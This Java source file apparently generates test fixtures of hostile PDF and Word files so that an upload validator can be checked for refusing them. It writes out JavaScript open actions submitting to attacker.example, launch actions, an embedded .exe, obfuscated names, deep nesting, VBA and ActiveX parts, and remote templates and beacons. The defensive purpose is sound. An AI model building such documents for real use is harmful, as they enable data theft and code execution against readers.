package app.laurel.storage;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** The PDF and .docx classes of {@link HostileFiles}: active content, remote templates, macros, deep nesting. */
final class HostileDocuments {

    static final String CONTENT_TYPES = """
            <?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
            <Default Extension="xml" ContentType="application/xml"/>\
            <Override PartName="/word/document.xml" \
            ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private HostileDocuments() {
    }

    interface PdfChange {
        void apply(PDDocument document, PDPage page) throws IOException;
    }

    /** Each way a PDF can act on its own, on several carriers (one page, three pages, a page with text). */
    static void activePdfs(HostileFiles corpus) throws IOException {
        Map<String, PdfChange> variants = new LinkedHashMap<>();
        String js = "app.alert('x'); this.submitForm('http://attacker.example/')";
        variants.put("upload.pdfJavaScript|names", (d, p) -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript(js)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
            names.setJavascript(scripts);
            d.getDocumentCatalog().setNames(names);
        });
        variants.put("upload.pdfJavaScript|open", (d, p) -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript(js)));
        variants.put("upload.pdfAutoAction|open-uri", (d, p) -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("http://attacker.example/opened");
            d.getDocumentCatalog().setOpenAction(uri);
        });
        variants.put("upload.pdfJavaScript|page-aa", (d, p) -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript(js));
            p.setActions(actions);
        });
        variants.put("upload.pdfLaunch|launch", (d, p) -> link(p, launch()));
        variants.put("upload.pdfLaunch|gotor", (d, p) -> {
            COSDictionary action = action("GoToR");
            action.setString(COSName.F, "\\\\attacker.example\\share\\x.pdf");
            link(p, action);
        });
        variants.put("upload.pdfEmbeddedFile|attachment", (d, p) -> {
            PDEmbeddedFile payload = new PDEmbeddedFile(d, new ByteArrayInputStream("MZ payload".getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("readme.exe");
            spec.setEmbeddedFile(payload);
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("readme.exe", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            d.getDocumentCatalog().setNames(names);
        });
        variants.put("upload.pdfXfa|xfa", (d, p) -> {
            PDAcroForm form = new PDAcroForm(d);
            COSStream xfa = d.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            d.getDocumentCatalog().setAcroForm(form);
        });
        variants.put("upload.pdfSubmitForm|submit", (d, p) -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.getCOSObject().setString(COSName.F, "http://attacker.example/collect");
            link(p, submit.getCOSObject());
        });
        variants.put("upload.pdfSubmitForm|import", (d, p) -> link(p, action("ImportData")));
        variants.put("upload.pdfJavaScript|link-js", (d, p) -> link(p, new PDActionJavaScript(js).getCOSObject()));
        variants.put("upload.pdfJavaScript|orphan", (d, p) -> {
            // Referenced from nowhere a reader looks, but present in the file: still refused.
            COSDictionary orphan = new PDActionJavaScript(js).getCOSObject();
            orphan.setDirect(false);
            p.getCOSObject().setItem(COSName.getPDFName("Orphan"), orphan);
        });
        int[] pages = {1, 3};
        for (Map.Entry<String, PdfChange> variant : variants.entrySet()) {
            String[] key = variant.getKey().split("\\|");
            for (int count : pages) {
                for (boolean text : new boolean[]{false, true}) {
                    corpus.add("pdf-active", key[1] + "-" + count + (text ? "-text" : "") + ".pdf",
                            pdf(count, text, variant.getValue()), key[0]);
                }
            }
        }
        String hidden = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
                + "4 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n"
                + "trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n";
        corpus.add("pdf-active", "hex-escaped.pdf", hidden.getBytes(StandardCharsets.US_ASCII), "upload.pdfJavaScript");
    }

    private static byte[] pdf(int pages, boolean text, PdfChange change) throws IOException {
        byte[] base = text ? HostileFiles.pdf("A story with a surprise.") : null;
        try (PDDocument document = base == null ? new PDDocument() : org.apache.pdfbox.Loader.loadPDF(base);
             ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            while (document.getNumberOfPages() < pages) {
                document.addPage(new PDPage());
            }
            change.apply(document, document.getPage(0));
            document.save(out);
            return out.toByteArray();
        }
    }

    private static void link(PDPage page, COSDictionary action) throws IOException {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new org.apache.pdfbox.pdmodel.common.PDRectangle(10, 10, 100, 20));
        link.getCOSObject().setItem(COSName.A, action);
        page.getAnnotations().add(link);
    }

    private static void link(PDPage page, org.apache.pdfbox.pdmodel.interactive.action.PDAction action) throws IOException {
        link(page, action.getCOSObject());
    }

    private static PDActionLaunch launch() {
        PDActionLaunch launch = new PDActionLaunch();
        launch.getCOSObject().setString(COSName.F, "C:\\Windows\\System32\\calc.exe");
        return launch;
    }

    private static COSDictionary action(String type) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
        action.setItem(COSName.S, COSName.getPDFName(type));
        return action;
    }

    /** PDFs whose objects nest thousands deep: arrays, dictionaries, in a page, in the trailer. */
    static void nestedPdfs(HostileFiles corpus) {
        for (int depth : new int[]{5_000, 20_000, 100_000}) {
            for (boolean arrays : new boolean[]{true, false}) {
                String open = arrays ? "[" : "<< /A ";
                String close = arrays ? "]" : " >>";
                String nest = open.repeat(depth) + close.repeat(depth);
                String inPage = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                        + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                        + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /X " + nest + " >>\nendobj\n"
                        + "trailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n";
                corpus.add("pdf-nested", "nested-" + depth + (arrays ? "-arrays" : "-dicts") + ".pdf",
                        inPage.getBytes(StandardCharsets.US_ASCII), null);
                String inTrailer = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                        + "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
                        + "trailer\n<< /Root 1 0 R /Size 3 /X " + nest + " >>\n%%EOF\n";
                corpus.add("pdf-nested", "nested-trailer-" + depth + (arrays ? "-arrays" : "-dicts") + ".pdf",
                        inTrailer.getBytes(StandardCharsets.US_ASCII), null);
            }
        }
    }

    /** Word documents with macros, ActiveX, or content fetched from elsewhere when opened. */
    static void activeDocx(HostileFiles corpus, byte[] docx) throws IOException {
        Map<String, Consumer<Map<String, byte[]>>> variants = new LinkedHashMap<>();
        variants.put("upload.docxMacro|vba", parts -> {
            parts.put("word/vbaProject.bin", "VBA project".getBytes(StandardCharsets.US_ASCII));
            relate(parts, "word/_rels/document.xml.rels", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin", false);
            declare(parts, "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
        });
        variants.put("upload.docxMacro|vba-undeclared-type", parts -> {
            parts.put("word/vbaProject.bin", "VBA project".getBytes(StandardCharsets.US_ASCII));
            declare(parts, "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>");
        });
        variants.put("upload.docxMacro|activex", parts -> {
            parts.put("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"
                    .getBytes(StandardCharsets.UTF_8));
        });
        variants.put("|docm", parts -> {
            String types = new String(parts.get("[Content_Types].xml"), StandardCharsets.UTF_8);
            parts.put("[Content_Types].xml", types.replace(
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml").getBytes(StandardCharsets.UTF_8));
        });
        variants.put("upload.docxExternal|remote-template", parts -> {
            parts.put("word/settings.xml", ("<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
                    + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                    + "<w:attachedTemplate r:id=\"rIdEvil\"/></w:settings>").getBytes(StandardCharsets.UTF_8));
            parts.put("word/_rels/settings.xml.rels", rels("rIdEvil", REL + "attachedTemplate",
                    "http://attacker.example/template.dotm"));
        });
        variants.put("upload.docxExternal|remote-ole", parts -> relate(parts, "word/_rels/document.xml.rels",
                REL + "oleObject", "\\\\attacker.example\\share\\x.xls", true));
        variants.put("upload.docxExternal|remote-frame", parts -> relate(parts, "word/_rels/document.xml.rels",
                REL + "frame", "http://attacker.example/frame.html", true));
        variants.put("upload.docxExternal|remote-image", parts -> relate(parts, "word/_rels/document.xml.rels",
                REL + "image", "http://attacker.example/beacon.png", true));
        for (Map.Entry<String, Consumer<Map<String, byte[]>>> variant : variants.entrySet()) {
            String[] key = variant.getKey().split("\\|");
            for (String name : new String[]{"story.docx", "故事.docx", "STORY.DOCX", "作品 (1).docx"}) {
                Map<String, byte[]> parts = parts(docx);
                variant.getValue().accept(parts);
                corpus.add("docx-active", key[1] + "-" + name, HostileFiles.zip(parts), key[0].isEmpty() ? null : key[0]);
            }
        }
    }

    /** A real .docx with more parts added (names not declared in its content types unless a variant does so). */
    static byte[] withParts(byte[] docx, Map<String, byte[]> extra) throws IOException {
        Map<String, byte[]> parts = parts(docx);
        parts.putAll(extra);
        return HostileFiles.zip(parts);
    }

    static Map<String, byte[]> parts(byte[] docx) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return parts;
    }

    private static void relate(Map<String, byte[]> parts, String relsPart, String type, String target, boolean external) {
        String rels = new String(parts.get(relsPart), StandardCharsets.UTF_8);
        String relationship = "<Relationship Id=\"rIdEvil\" Type=\"" + type + "\" Target=\"" + target + "\""
                + (external ? " TargetMode=\"External\"" : "") + "/>";
        parts.put(relsPart, rels.replace("</Relationships>", relationship + "</Relationships>").getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] rels(String id, String type, String target) {
        return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"" + id + "\" Type=\"" + type + "\" Target=\"" + target + "\" TargetMode=\"External\"/>"
                + "</Relationships>").getBytes(StandardCharsets.UTF_8);
    }

    private static void declare(Map<String, byte[]> parts, String type) {
        String types = new String(parts.get("[Content_Types].xml"), StandardCharsets.UTF_8);
        parts.put("[Content_Types].xml", types.replace("</Types>", type + "</Types>").getBytes(StandardCharsets.UTF_8));
    }
}
